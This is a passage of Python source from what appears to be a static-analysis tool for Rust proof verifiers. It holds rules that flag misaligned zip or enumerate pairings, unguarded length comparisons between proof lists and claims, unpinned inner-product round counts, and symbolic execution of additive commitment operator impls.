    of per-item randomizers, a table indexed by item), every element after the first dropped one meets its neighbour's
    partner. The same holds for `enumerate` placed after such an adaptor when the index is then used to index a table.
    Zipping with a generator (`0..`, `repeat_with`) or with something collected from the filtered sequence is fine."""
    g = ctx.graph(anchor)
    f = ctx.facts
    n = 0
    per = defaultdict(int)
    idx_locals = None
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        for i, t in b.calls():
            c = t.get("callee") or ""
            if c in ZIP_CALLEES and len(t["args"]) == 2 and all(a["k"] in ("copy", "move") for a in t["args"]):
                ch = [_chain_back(b, a["pl"]["l"]) for a in t["args"]]
                sh = [[x for x in names if x in SHIFTING] for names, _ in ch]
                if bool(sh[0]) == bool(sh[1]):
                    continue
                other = ch[1] if sh[0] else ch[0]
                oty = b.locals[other[1]]["ty"] or ""
                if any(x in oty for x in GENERATORS) or any(x in ("repeat", "repeat_with", "successors", "from_fn") for x in other[0]):
                    continue
                n += 1
                k = per[bid]
                per[bid] += 1
                rep.add(rule, "%s:shifted-zip@%s#%d" % (anchor.key, short(bid), k), False,
                        "one side of the zip at %s has passed through `%s`, which drops elements, the other side (%s) has not: "
                        "after the first dropped element every item meets its neighbour's partner" % (
                            t["span"], (sh[0] or sh[1])[0], b.locals[other[1]].get("name") or "a stored sequence"), t["span"])
            elif c.rsplit("::", 1)[-1] == "enumerate" and "iter" in c.lower() and t["args"] and t["args"][0]["k"] in ("copy", "move"):
                names, root = _chain_back(b, t["args"][0]["pl"]["l"])
                drop = [x for x in names if x in SHIFTING]
                if not drop:
                    continue
                if idx_locals is None:
                    idx_locals = set()
                    for b2 in g.scope:
                        body2 = f.bodies[b2]
                        for (sp, pl) in _indexed_places(body2):
                            for e in pl["p"]:
                                if isinstance(e, dict) and "idx" in e:
                                    idx_locals.add((b2, e["idx"]))
                        for j, tt in body2.calls():
                            if (tt.get("callee") or "") in INDEX_CALLEES and len(tt["args"]) == 2 and tt["args"][1]["k"] in ("copy", "move"):
                                idx_locals.add((b2, tt["args"][1]["pl"]["l"]))
                reach = {st[0] for st in g.reach([("STATE", ("CALLRES", bid, i), "usize")], kinds=(DATA, ALIAS_KIND))}
                hit = sorted(x for x in idx_locals if x in reach)
                if not hit:
                    continue
                n += 1
                k = per[bid]
                per[bid] += 1
                rep.add(rule, "%s:shifted-index@%s#%d" % (anchor.key, short(bid), k), False,
                        "`enumerate` at %s numbers what is left after `%s`, and that number is then used to index a table: after "
                        "the first dropped element every item reads its neighbour's entry" % (t["span"], drop[0]), t["span"])
    return n


# ---------------------------------------------------------------------------------------------------------
# R4l: the proof list is paired with the claims by advancing two iterators in lock-step
def run_lockstep(rep, ctx, anchor, rule="R4a"):
    """`while let (Some(q), Some(p)) = (queries.next(), proofs.next())`: a loop with two cursors, one over (a view of)
    the proof list and one over something else, stops with the shorter one exactly like `zip`; the same dominating
    comparison of the two lengths is required. Returns the number of such loops."""
    from .meet import _natural_loops
    from .carried import _iterator_locals
    g = ctx.graph(anchor)
    f = ctx.facts
    conds = None
    memo = {}
    n = 0
    per_body = defaultdict(int)
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        for (h, blocks) in sorted(_natural_loops(b)):
            cursors = [c for c in sorted(_iterator_locals(b, h, blocks)) if b.locals[c].get("name") or True]
            roots = {c: alias_roots(g, (bid, c), NOT_PROOF_LIST) for c in cursors}
            pr = {c: proof_rooted(g, anchor, roots[c]) for c in cursors}
            P = [c for c in cursors if pr[c]]
            C = [c for c in cursors if not pr[c] and not any((bid, c) in roots[p] or (bid, p) in roots[c] for p in P)]
            if not P or not C:
                continue
            n += 1
            k = per_body[bid]
            per_body[bid] += 1
            lp = data_closure(g, shape_seeds(g, views(g, set().union(*[roots[c] for c in P]))))
            lc = data_closure(g, shape_seeds(g, views(g, set().union(*[roots[c] for c in C]))))
            if conds is None:
                conds = branch_conditions(g)
            guards = [(gb, gi) for (gb, gi, c) in conds if c in lp and c in lc]
            good = [gs for gs in guards if guard_dominates(g, gs, (bid, h), memo)]
            key = "%s:lockstep@%s#%d" % (anchor.key, short(bid), k)
            sp = b.blocks[h]["term"].get("span") or b.span
            rep.add(rule, key, bool(good),
                    ("the loop at %s advances an iterator over the proof list in lock-step with one over the claims and is "
                     "guarded by the length comparison at %s" % (sp, where_of(f, *good[0]))) if good else
                    ("the loop at %s advances an iterator over the proof list in lock-step with one over the claims, stops "
                     "with the shorter one, and %s: a shorter proof list silently leaves claims unverified" % (
                         sp, "no branch compares the two lengths" if not guards else "the length comparison does not dominate it")), sp)
    return n


# ---------------------------------------------------------------------------------------------------------
# R4p: the proof list is paired with the claims by position (index loop) instead of by zip
def run_positional(rep, ctx, anchor, rule="R4a"):
    """positional (bounds-checked) reads of the proof list: each must be dominated by a branch whose condition is
    derived from an equality-capable comparison (==, !=, cmp) of a length observation of the proof list with one
    of something that is not the proof list (otherwise surplus claims are simply never looked at). Returns the number of such reads."""
    g = ctx.graph(anchor)
    f = ctx.facts
    idx = anchor.roles.get("proof")
    if idx is None:
        return 0
    root = (anchor.body.id, idx)
    V = views(g, {root})
    lp = data_closure(g, shape_seeds(g, V))
    all_seeds = set()
    for a, es in g.fwd.items():
        if a in V:
            continue
        for e in es:
            if e.op == SHAPE and e.kind == DATA and e.dst != OUTCOME:
                all_seeds.add(e.dst)
    lo = data_closure(g, all_seeds - shape_seeds(g, V), limit=20000)
    conds = branch_conditions(g)
    memo = {}
    n = 0
    eqres = None
    per_body = defaultdict(int)
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        sites = []
        for i, blk in enumerate(b.blocks):
            for st in blk["stmts"]:
                rv = st["rv"]
                pls = [rv["pl"]] if rv.get("k") in ("ref", "rawptr", "discr") else \
                    [o["pl"] for o in rv.get("ops", []) if o["k"] in ("copy", "move")]
                for pl in pls:
                    if (bid, pl["l"]) in V and any(isinstance(e, dict) and ("idx" in e or "cidx" in e) for e in pl["p"]):
                        sites.append((i, blk["term"].get("span") or b.span))
            t = blk["term"]
            if t["k"] == "call" and (t.get("callee") or "") in INDEX_CALLEES and t["args"] and \
                    t["args"][0]["k"] in ("copy", "move") and (bid, t["args"][0]["pl"]["l"]) in V:
                sites.append((i, t["span"]))
        seen_blk = set()
        for (i, span) in sites:
            if i in seen_blk:
                continue
            seen_blk.add(i)
            n += 1
            k = per_body[bid]
            per_body[bid] += 1
            # an index bounded by one length and bounds-checked against the other is a one-sided guard: only an
            # equality-capable comparison of the two lengths accounts for every claim
            if eqres is None:
                from .meet import comparison_sites
                eqres = set()
                for (cb, cblk, l, r, res, _sp) in comparison_sites(g, equality_only=True):
                    if (any(x in lp for x in l) and any(x in lo for x in r)) or (any(x in lo for x in l) and any(x in lp for x in r)):
                        eqres |= data_closure(g, {res}, limit=200)
            guards = [(gb, gi) for (gb, gi, c) in conds if c in eqres]
            good = [gs for gs in guards if guard_dominates(g, gs, (bid, i), memo)]
            key = "%s:positional@%s#%d" % (anchor.key, short(bid), k)
            rep.add(rule, key, bool(good),
                    ("positional read of the proof list at %s is guarded by the length comparison at %s" % (span, where_of(f, *good[0])))
                    if good else
                    ("the proof list is read by position at %s but no dominating branch compares its length with the "
                     "claims': surplus claims or proofs go unnoticed" % span), span)
    return n


# ---------------------------------------------------------------------------------------------------------
# R4r: the number of rounds of an inner-product proof is pinned before the proof is used
def _indexed_places(b):
    """(span, place) for every place of the body that is indexed with a computed index (`v[i]` on a slice / array)."""
    for blk in b.blocks:
        if blk["cleanup"]:
            continue
        for st in blk["stmts"]:
            rv = st["rv"]
            pls = [st["dst"]]
            if rv.get("pl"):
                pls.append(rv["pl"])
            pls += [o["pl"] for o in rv.get("ops", []) if o["k"] in ("copy", "move")]
            for pl in pls:
                if any(isinstance(e, dict) and "idx" in e for e in pl["p"]):
                    yield st.get("span") or blk["term"].get("span"), pl
        t = blk["term"]
        if t["k"] == "call":
            for a in t["args"]:
                if a["k"] in ("copy", "move") and any(isinstance(e, dict) and "idx" in e for e in a["pl"]["p"]):
                    yield t.get("span"), a["pl"]


def field_lengths(g, src):
    """everything computed from a length observation of the field node `src` (and of views of it) - of this vector,
    not of its siblings in the same struct."""
    lens = set()
    for e in g.fwd.get(src, ()):
        if e.kind == DATA and e.op in (SHAPE, "fieldshape") and e.dst != OUTCOME:
            lens.add(e.dst)
    lens |= shape_seeds(g, views(g, {src}))
    return data_closure(g, lens, limit=400)


def pinned_length_guards(g, anchor, lp, conds):
    """branch sites whose condition comes from an equality-capable comparison of a length in `lp` (lengths of a proof
    vector) with a value that is not derived from the proof; guards sitting in helpers are lifted to their call
    sites."""
    from .meet import comparison_sites
    from ..flow import ALIAS
    idx_p = anchor.roles.get("proof")
    from_proof = {st[0] for st in g.reach([(anchor.body.id, idx_p)], typed=False, kinds=(DATA, ALIAS))} if idx_p is not None else set()
    eqres = set()
    for (cb, cblk, l, r, res, _sp) in comparison_sites(g, equality_only=True):
        for (x, y) in ((l, r), (r, l)):
            if any(n in lp for n in x) and y and not any(n in from_proof for n in y):
                eqres |= data_closure(g, {res}, limit=200)
    guards = [(gb, gi) for (gb, gi, c) in conds if c in eqres]
    return guards + lifted_guards(g, guards, conds)


def lifted_guards(g, guards, conds, depth=2):
    """a guard that sits in a helper counts at the helper's call sites: when a refusing block of the helper (an `Err`,
    a panic) is control dependent on the guard, the test made in the caller on the helper's result (`?`, `if !ok`)
    stands for the guard."""
    from .meet import _refusing_blocks
    f = g.facts
    out, cur = [], list(guards)
    for _ in range(depth):
        nxt = []
        for (hb, hi) in cur:
            h = f.bodies[hb]
            if h.kind == "Closure":
                continue
            cd = h.control_deps()
            refusing = _refusing_blocks(h)
            tcd, st = set(), list(refusing)
            while st:
                x = st.pop()
                for y in cd.get(x, ()):
                    y = y[0] if isinstance(y, tuple) else y
                    if y not in tcd:
                        tcd.add(y)
                        st.append(y)
            if hi not in tcd:
                continue
            for bid in sorted(g.scope):
                b = f.bodies[bid]
                for i, t in b.calls():
                    if hb not in f.call_targets(t, g.ctx_adt):
                        continue
                    res = data_closure(g, {(bid, t["dst"]["l"])}, limit=200)
                    for (cb, ci, c) in conds:
                        if cb == bid and c in res and b.dominates(i, ci) and (cb, ci) not in out:
                            out.append((cb, ci))
                            nxt.append((cb, ci))
        cur = nxt
    return out


def run_rounds(rep, ctx, anchor, proof_adt, field, consumer_suffix, rule="R4r"):
    """every call of the succinct check (`consumer_suffix`) in the verifier's scope is dominated by a refusal whose
    condition comes from an equality-capable comparison of the length of `proof.<field>` with something that is not
    derived from the proof. With one round too many the check polynomial has more coefficients than there are
    generators, the recomputation of the final key truncates them silently, and the extra round's (L, R) can be
    chosen so that any claimed value verifies (finding F8)."""
    from .meet import comparison_sites
    g = ctx.graph(anchor)
    f = ctx.facts
    src = ("FIELD", proof_adt, field)
    if src not in g.fwd:
        rep.add(rule, "%s:rounds-pinned" % anchor.key, False, "%s.%s is never read (fail closed)" % (proof_adt, field), anchor.body.span)
        return 0
    lp = field_lengths(g, src)
    idx_p = anchor.roles.get("proof")
    from ..flow import ALIAS
    from_proof = {st[0] for st in g.reach([(anchor.body.id, idx_p)], typed=False, kinds=(DATA, ALIAS))} if idx_p is not None else set()
    conds = branch_conditions(g)
    guards = pinned_length_guards(g, anchor, lp, conds)
    memo = {}
    sites = [(bid, i, t) for bid in sorted(g.scope) for i, t in f.bodies[bid].calls()
             if (t.get("callee") or "").endswith(consumer_suffix) or (t.get("resolved") or "").endswith(consumer_suffix)]
    if not sites:
        rep.add(rule, "%s:rounds-pinned" % anchor.key, False, "no call of %s found in the verifier (fail closed)" % consumer_suffix, anchor.body.span)
        return 0
    bad = [t["span"] for (bid, i, t) in sites if not any(guard_dominates(g, gs, (bid, i), memo) for gs in guards)]
    rep.add(rule, "%s:rounds-pinned" % anchor.key, not bad,
            "every succinct check (%d call(s)) is preceded by an equality test of the number of rounds against a value that does "
            "not come from the proof" % len(sites) if not bad else
            "the succinct check at %s is reached without the number of rounds (len of %s) having been compared with the "
            "expected log2(d + 1): a proof with an extra round can be forged" % (bad[0], field), bad[0] if bad else anchor.body.span)
    return len(sites)
