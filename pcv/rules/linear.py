"""R12b: mini symbolic execution of the additive operator impls on commitments / commitment randomness.

Values are polynomials over the atoms `self.<field>`, `other.<field>` and the scalar `f` (dict: monomial -> integer
coefficient). Supported statements: let bindings, `x.add_assign(&e)`, `x += e`, assignments to a local or to a
field of self, a trailing `self`. Supported expressions: locals, field access, `a * b`, unary minus, references,
dereferences, `clone()`, `into()`, and the pair `(f, e)`, which the foreign `AddAssign<(F, &P)>` impls of arkworks
polynomials define as the scaled addend f*e. Anything else makes the result *undecided*."""
from .serde import strip
from .algebra import pat_tuple_roles, pat_bindings


class Undecided(Exception):
    pass


def p_atom(a):
    return {(a,): 1}


def p_add(a, b):
    out = dict(a)
    for k, v in b.items():
        out[k] = out.get(k, 0) + v
        if out[k] == 0:
            del out[k]
    return out


def p_mul(a, b):
    out = {}
    for ka, va in a.items():
        for kb, vb in b.items():
            k = tuple(sorted(ka + kb))
            out[k] = out.get(k, 0) + va * vb
            if out[k] == 0:
                del out[k]
    return out


def p_neg(a):
    return {k: -v for k, v in a.items()}


def p_fmt(a):
    if not a:
        return "0"
    parts = []
    for k, v in sorted(a.items()):
        m = "*".join(k)
        parts.append(("%+d*" % v if abs(v) != 1 else ("-" if v < 0 else "+")) + m)
    s = " ".join(parts)
    return s[1:] if s.startswith("+") else s


class Exec:
    def __init__(self, h):
        self.h = h
        self.env = {}        # local name -> poly, or ("obj", prefix) for self / other
        params = h["params"]
        self.self_name = pat_bindings(params[0])[0]
        self.env[self.self_name] = ("obj", "self")
        self.self_fields = {}   # field -> poly (current value)
        rhs = pat_tuple_roles(params[1]) if len(params) > 1 else []
        rhs_ty = h["inputs"][1] if len(h.get("inputs", [])) > 1 else ""
        self.rhs_whole = None
        if len(rhs) == 2:
            self.env[rhs[0]] = p_atom("f")
            self.env[rhs[1]] = ("obj", "other")
        elif rhs_ty.startswith("("):
            self.rhs_whole = rhs[0]          # `other: (F, &R)` used as a whole
            self.env[rhs[0]] = ("pair",)
        else:
            self.env[rhs[0]] = ("obj", "other")
        self.delegated = False

    def field_val(self, prefix, name):
        if prefix == "self":
            return self.self_fields.get(name, p_atom("self." + name))
        return p_atom("%s.%s" % (prefix, name))

    def ev(self, e):
        e0 = e
        k = e.get("k")
        if k in ("addrof", "cast"):
            return self.ev(e["args"][0])
        if k == "unary":
            if e.get("op") == "Deref":
                return self.ev(e["args"][0])
            if e.get("op") == "Neg":
                return p_neg(self.num(e["args"][0]))
            raise Undecided("unary %s" % e.get("op"))
        if k == "block" and not e.get("stmts") and "e" in e:
            return self.ev(e["e"])
        if k == "path" and e.get("res") == "local":
            if e["name"] not in self.env:
                raise Undecided("unknown local %s" % e["name"])
            return self.env[e["name"]]
        if k == "field":
            base = self.ev(e["args"][0])
            if isinstance(base, tuple) and base[0] == "obj":
                return self.field_val(base[1], e["name"])
            raise Undecided("field of a computed value")
        if k == "mcall" and e.get("m") in ("clone", "into", "to_owned", "borrow") and not e.get("args"):
            return self.ev(e["recv"])
        if k == "binary" and e.get("op") == "Mul":
            return p_mul(self.num(e["args"][0]), self.num(e["args"][1]))
        if k == "binary" and e.get("op") == "Add":
            return p_add(self.num(e["args"][0]), self.num(e["args"][1]))
        if k == "tup" and len(e["args"]) == 2:
            return p_mul(self.num(e["args"][0]), self.num(e["args"][1]))
        raise Undecided("expression %s" % k)

    def num(self, e):
        v = self.ev(e)
        if isinstance(v, dict):
            return v
        raise Undecided("an object where a value is expected")

    def assign(self, lhs, val):
        l = strip(lhs) if lhs.get("k") in ("addrof",) else lhs
        while l.get("k") == "unary" and l.get("op") == "Deref":
            l = l["args"][0]
        if l.get("k") == "path" and l.get("res") == "local":
            self.env[l["name"]] = val
            return
        if l.get("k") == "field":
            base = self.ev(l["args"][0])
            if isinstance(base, tuple) and base == ("obj", "self"):
                self.self_fields[l["name"]] = val
                return
        raise Undecided("assignment target")

    def add_into(self, target, addend_expr):
        cur = self.num(target)
        self.assign(target, p_add(cur, self.num(addend_expr)))

    def run(self):
        body = self.h["body"]
        stmts = list(body.get("stmts", []))
        tail = body.get("e")
        for st in stmts:
            if st["k"] == "let":
                names = pat_bindings(st["pat"])
                if len(names) != 1 or "init" not in st:
                    raise Undecided("let pattern")
                self.env[names[0]] = self.ev(st["init"])
                continue
            e = st["e"]
            k = e.get("k")
            if k == "assignop" and e.get("op") in ("AddAssign", "Add"):
                lhs, rhs = e["args"]
                # `self += other` inside `add`: delegation to the AddAssign impl with the same right-hand side
                lv = self.ev(lhs)
                if lv == ("obj", "self"):
                    rv = self.ev(rhs)
                    if rv in (("obj", "other"), ("pair",)):
                        self.delegated = True
                        continue
                    raise Undecided("self += <computed>")
                self.add_into(lhs, rhs)
            elif k == "mcall" and e.get("m") == "add_assign" and len(e.get("args", [])) == 1:
                self.add_into(e["recv"], e["args"][0])
            elif k == "assign":
                lhs, rhs = e["args"]
                self.assign(lhs, self.ev(rhs))
            else:
                raise Undecided("statement %s" % k)
        if tail is not None:
            t = self.ev(tail)
            if t != ("obj", "self"):
                raise Undecided("result is not self")
        return self.self_fields
