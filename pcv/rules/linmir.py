"""R12b on MIR: symbolic execution of the additive operator impls on commitments / commitment randomness.

Values are polynomials (monomial -> integer coefficient) over the atoms `self.<field>`, `other.<field>` and the scalar
`f`. The impl's MIR is executed in control-flow order (straight-line code only: a branch makes the impl *undecided*),
keeping the current value of every field of `self` and of every local. Understood: moves, copies, references and
reborrows, tuple and struct patterns, `Mul::mul`, `Neg::neg`, `Add::add`, `AddAssign::add_assign` (on a field of
self, on a local, with a plain or a `(f, &x)` right-hand side - the latter is what arkworks' polynomial types define
as the scaled addend f*x), value-preserving conversions (`into`, `clone`, `into_group`, `into_affine`, `borrow`, ..),
and calls of another operator impl of the same family on `self` (delegation, executed recursively). Anything else
raises Undecided. Surface syntax does not matter."""
from .linear import p_atom, p_add, p_mul, p_neg, p_fmt, Undecided   # noqa: F401

IDENT_CALLS = ("into", "clone", "deref", "deref_mut", "borrow", "borrow_mut", "as_ref", "as_mut", "into_group",
               "into_affine", "to_owned", "from", "into_owned")


class Exec:
    def __init__(self, facts, body, rhs_kind, by_value, self_fields=None, depth=0, opt_case=None):
        self.f = facts
        self.b = body
        self.depth = depth
        # Option-valued fields: which of them are Some in the case being executed, e.g. {"self.shifted_rand": True}
        self.opt_case = opt_case or {}
        self.fields = self_fields if self_fields is not None else {}
        for k, present in self.opt_case.items():
            who, name = k.split(".", 1)
            if who == "self" and name not in self.fields:
                self.fields[name] = ("opt", present, p_atom("self." + name) if present else None)
        self.delegated = False
        self.delegate_targets = []
        self.delegate_undecided = False
        self.own_writes = False
        self.env = {}
        self.env[1] = ("selfval",) if by_value else ("self",)
        if rhs_kind == "pair":
            self.env[2] = ("tuple", [("poly", p_atom("f")), ("other",)])
        else:
            self.env[2] = ("other",)

    # ------------------------------------------------------------------ values
    def field_val(self, name):
        v = self.fields.get(name)
        if isinstance(v, tuple) and v and v[0] == "opt":
            return v
        return ("poly", v if v is not None else p_atom("self." + name))

    def other_val(self, name):
        k = "other." + name
        if k in self.opt_case:
            return ("opt", self.opt_case[k], p_atom(k) if self.opt_case[k] else None)
        return ("poly", p_atom(k))

    def proj_value(self, v, proj):
        """value obtained by reading through the projection `proj` starting from value v."""
        for e in proj:
            if v is None:
                raise Undecided("read of an unset local")
            if e == "*":
                if v[0] == "loc":
                    v = self.env.get(v[1])
                elif v[0] == "selff":
                    v = self.field_val(v[1])
                elif v[0] == "selfopt":
                    o = self.fields.get(v[1])
                    v = ("poly", o[2]) if o and o[0] == "opt" and o[1] else None
                continue
            if isinstance(e, dict) and "dc" in e:
                # `(x as Some)`: the payload is read by the `.0` that follows
                if v[0] == "selff":
                    o = self.fields.get(v[1])
                    if not (o and o[0] == "opt" and o[1]):
                        raise Undecided("downcast of an absent Option")
                    v = ("somewrap", ("selfopt", v[1]))
                elif v[0] == "opt":
                    if not v[1]:
                        raise Undecided("downcast of an absent Option")
                    v = ("somewrap", ("poly", v[2]))
                else:
                    raise Undecided("downcast of %s" % v[0])
                continue
            if isinstance(e, dict) and "f" in e and v[0] == "somewrap":
                v = v[1]
                continue
            if isinstance(e, dict) and "f" in e:
                name = e.get("n") if e.get("n") is not None else str(e["f"])
                if v[0] in ("self", "selfval"):
                    v = self.field_val(name)
                elif v[0] == "other":
                    v = self.other_val(name)
                elif v[0] == "tuple" and e["f"] < len(v[1]):
                    v = v[1][e["f"]]
                else:
                    raise Undecided("field %s of %s" % (name, v[0]))
                continue
            raise Undecided("projection %r" % (e,))
        return v

    def read(self, pl):
        v = self.env.get(pl["l"])
        if v is None:
            raise Undecided("read of an unset local _%d" % pl["l"])
        return self.proj_value(v, pl["p"])

    def place_ref(self, pl):
        """what a reference to the place denotes (for `&mut place` / `&place`)."""
        v = self.env.get(pl["l"])
        proj = list(pl["p"])
        fields = [e for e in proj if isinstance(e, dict) and "f" in e]
        if v is not None and v[0] in ("self", "selfval") and len(fields) == 1 and all(e == "*" or e is fields[0] for e in proj):
            name = fields[0].get("n") if fields[0].get("n") is not None else str(fields[0]["f"])
            return ("selff", name)
        if v is not None and v[0] in ("self", "selfval") and not fields:
            return ("self",)
        if v is not None and v[0] == "loc" and all(e == "*" for e in proj):
            return v
        if v is not None and v[0] == "selff" and proj and not all(e == "*" for e in proj):
            rest = [e for e in proj if e != "*"]
            # &mut ((*r) as Some).0 : a reference to the payload of the Option-valued field
            if len(rest) == 2 and isinstance(rest[0], dict) and rest[0].get("dc") == "Some" and isinstance(rest[1], dict) and rest[1].get("f") == 0:
                o = self.fields.get(v[1])
                if not (o and o[0] == "opt" and o[1]):
                    raise Undecided("payload of an absent Option")
                return ("selfopt", v[1])
            return self.proj_value(v, proj)
        if v is not None and v[0] in ("selff", "selfopt") and all(e == "*" for e in proj):
            return v
        if not proj and (v is None or v[0] in ("poly", "tuple")):
            return ("loc", pl["l"])
        # a reference to anything else is as good as its value
        return self.read(pl)

    def as_poly(self, v):
        if v is None:
            raise Undecided("unset value")
        if v[0] == "poly":
            return v[1]
        if v[0] == "loc":
            return self.as_poly(self.env.get(v[1]))
        if v[0] == "selff":
            fv = self.field_val(v[1])
            if fv[0] == "opt":
                raise Undecided("an Option where a ring element is needed")
            return fv[1]
        if v[0] == "selfopt":
            o = self.fields.get(v[1])
            if not (o and o[0] == "opt" and o[1]):
                raise Undecided("payload of an absent Option")
            return o[2]
        if v[0] == "tuple" and len(v[1]) == 2:
            # the pair (f, x) as an addend means f*x
            return p_mul(self.as_poly(v[1][0]), self.as_poly(v[1][1]))
        raise Undecided("a value of kind %s where a ring element is needed" % v[0])

    def operand(self, op):
        if op["k"] in ("copy", "move"):
            return self.read(op["pl"])
        raise Undecided("constant operand")

    # ------------------------------------------------------------------ execution
    def store(self, dst, v):
        base = self.env.get(dst["l"])
        if not dst["p"]:
            self.env[dst["l"]] = v
            return
        fields = [e for e in dst["p"] if isinstance(e, dict) and "f" in e]
        if base is not None and base[0] in ("self", "selfval") and len(fields) == 1:
            name = fields[0].get("n") if fields[0].get("n") is not None else str(fields[0]["f"])
            self.fields[name] = v if v[0] == "opt" else self.as_poly(v)
            self.own_writes = True
            return
        if base is not None and base[0] == "selff" and all(e == "*" for e in dst["p"]):
            self.fields[base[1]] = v if v[0] == "opt" else self.as_poly(v)
            self.own_writes = True
            return
        if base is not None and base[0] == "loc" and all(e == "*" for e in dst["p"]):
            self.env[base[1]] = v
            return
        raise Undecided("assignment through %r" % (dst["p"],))

    def add_into(self, target, addend):
        a = self.as_poly(addend)
        if target[0] == "selfopt":
            o = self.fields.get(target[1])
            if not (o and o[0] == "opt" and o[1]):
                raise Undecided("add_assign on the payload of an absent Option")
            self.fields[target[1]] = ("opt", True, p_add(o[2], a))
            self.own_writes = True
            return
        if target[0] == "selff":
            self.fields[target[1]] = p_add(self.field_val(target[1])[1], a)
            self.own_writes = True
        elif target[0] == "loc":
            self.env[target[1]] = ("poly", p_add(self.as_poly(self.env.get(target[1])), a))
        else:
            raise Undecided("add_assign on %s" % target[0])

    def run(self):
        b = self.b
        blk = 0
        seen = set()
        while True:
            if blk in seen:
                raise Undecided("loop")
            seen.add(blk)
            x = b.blocks[blk]
            for st in x["stmts"]:
                rv = st["rv"]
                k = rv["k"]
                if k in ("ref", "rawptr"):
                    self.store(st["dst"], self.place_ref(rv["pl"]))
                elif k in ("use", "cast"):
                    op = rv["ops"][0]
                    if op["k"] == "const":
                        if isinstance(op.get("val"), (int, bool)) and not st["dst"]["p"]:
                            self.env[st["dst"]["l"]] = ("const", int(op["val"]))    # drop flags and the like
                        continue       # unit / phantom data
                    self.store(st["dst"], self.operand(op))
                elif k == "agg":
                    if rv.get("ak") == "tuple":
                        if not rv["ops"]:
                            continue
                        self.store(st["dst"], ("tuple", [self.operand(o) for o in rv["ops"]]))
                    elif rv.get("closure"):
                        self.store(st["dst"], ("closure", rv["closure"], [self.operand(o) for o in rv["ops"]]))
                    elif rv.get("adt") == "std::option::Option":
                        if rv.get("variant") == "Some" and rv["ops"]:
                            self.store(st["dst"], ("opt", True, self.as_poly(self.operand(rv["ops"][0]))))
                        else:
                            self.store(st["dst"], ("opt", False, None))
                    else:
                        raise Undecided("aggregate %s" % rv.get("adt"))
                elif k in ("discr",):
                    v = self.read(rv["pl"])
                    if v is None or v[0] != "opt":
                        raise Undecided("branch on a discriminant that is not a tracked Option")
                    self.store(st["dst"], ("const", 1 if v[1] else 0))
                else:
                    raise Undecided("statement kind %s" % k)
            t = x["term"]
            tk = t["k"]
            if tk == "return":
                return
            if tk in ("goto", "drop"):
                blk = t["t"]
                continue
            if tk == "assert":
                blk = t["t"]
                continue
            if tk == "switch":
                v = self.operand(t["op"]) if t["op"]["k"] in ("copy", "move") else None
                if v is None or v[0] != "const":
                    raise Undecided("branch on a value that is not known in this case")
                nxt = [tb for (val, tb) in t.get("targets", []) if val == v[1]]
                blk = nxt[0] if nxt else t.get("otherwise")
                continue
            if tk == "call":
                self.call(t)
                if t["t"] is None:
                    raise Undecided("diverging call")
                blk = t["t"]
                continue
            raise Undecided("terminator %s" % tk)

    def call(self, t):
        name = (t.get("callee") or "").rsplit("::", 1)[-1]
        args = [self.operand(a) for a in t["args"]]
        a0 = args[0] if args else None
        if name == "mul" and len(args) == 2:
            self.store(t["dst"], ("poly", p_mul(self.as_poly(a0), self.as_poly(args[1]))))
            return
        if name == "neg" and len(args) == 1:
            self.store(t["dst"], ("poly", p_neg(self.as_poly(a0))))
            return
        if name == "add" and len(args) == 2 and a0[0] not in ("self", "selfval", "closure-env"):
            self.store(t["dst"], ("poly", p_add(self.as_poly(a0), self.as_poly(args[1]))))
            return
        if name in ("add_assign", "add") and len(args) == 2 and a0[0] in ("self", "selfval"):
            # an operator of the same family applied to self as a whole: delegation
            targets = [x for x in self.f.call_targets(t, None) if x in self.f.bodies]
            if len(targets) != 1 or self.depth > 3:
                raise Undecided("operator call on self that does not resolve to one local impl")
            cb = self.f.bodies[targets[0]]
            rhs = args[1]
            kind = "pair" if rhs[0] == "tuple" else "plain"
            sub = Exec(self.f, cb, kind, by_value=(cb.name == "add"), self_fields=self.fields, depth=self.depth + 1)
            # bind the callee's right-hand side to our value (already expressed over our atoms)
            sub.env[2] = rhs
            self.delegated = True
            self.delegate_targets.append(cb.id)
            try:
                sub.run()
            except Undecided:
                # the callee is outside the language (it is judged on its own row); what matters here is that this
                # impl does nothing but hand over
                self.delegate_undecided = True
            self.own_writes = self.own_writes or False
            if name == "add":
                self.store(t["dst"], ("selfval",))
            return
        if name == "add_assign" and len(args) == 2:
            self.add_into(a0, args[1])
            return
        if name in IDENT_CALLS and len(args) == 1:
            self.store(t["dst"], a0)
            return
        if name == "empty" and not args:
            self.store(t["dst"], ("poly", {}))          # the neutral element of the randomness type
            return
        if name in ("as_ref", "as_mut", "cloned", "copied", "as_deref") and len(args) == 1:
            self.store(t["dst"], a0)
            return
        if name == "unwrap_or" and len(args) == 2:
            o = self.field_val(a0[1]) if a0[0] == "selff" else a0
            if o[0] != "opt":
                raise Undecided("unwrap_or on %s" % o[0])
            self.store(t["dst"], ("poly", o[2]) if o[1] else ("poly", self.as_poly(args[1])))
            return
        if name == "map" and len(args) == 2 and args[1] is not None and args[1][0] == "closure":
            o = self.field_val(a0[1]) if a0[0] == "selff" else a0
            if o[0] != "opt":
                raise Undecided("map on %s" % o[0])
            if not o[1]:
                self.store(t["dst"], ("opt", False, None))
                return
            kb = self.f.bodies.get(args[1][1])
            if kb is None or self.depth > 3:
                raise Undecided("closure body not available")
            sub = Exec(self.f, kb, "plain", by_value=False, self_fields={}, depth=self.depth + 1)
            sub.env = {1: ("closure-env",), 2: ("poly", o[2])}
            for kk, u in kb.upvar_locals.items():
                if kk < len(args[1][2]):
                    cv = args[1][2][kk]
                    sub.env[u] = ("poly", self.as_poly(cv)) if cv is not None and cv[0] in ("loc", "selff") else cv
            sub.run()
            self.store(t["dst"], ("opt", True, sub.as_poly(sub.env.get(0))))
            return
        raise Undecided("call of %s" % (t.get("callee") or "?"))


def analyse(facts, body, rhs_kind):
    """returns the finished executor: .fields {name: poly}, .delegated, .delegate_targets, .delegate_undecided,
    .own_writes."""
    by_value = body.name == "add"
    ex = Exec(facts, body, rhs_kind, by_value)
    ex.run()
    return ex
