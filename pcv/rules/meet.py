"""R1m MEET: two components of the transcript must be compared with each other.

For a pair of sources (A, B) there must be a comparison in the verifier's scope - a call of `PartialEq::eq/ne`
(or a derived / foreign equality), or an integer comparison - one operand of which is derived from A and the other
from B (transcript cut), and whose result can reach the outcome. Liveness of A and of B separately does not show
that the verifier checks them *against each other*: the linear-code verifier keeps every opened column live through
Merkle authentication even if the column is never compared with the encoding of the opening vector.
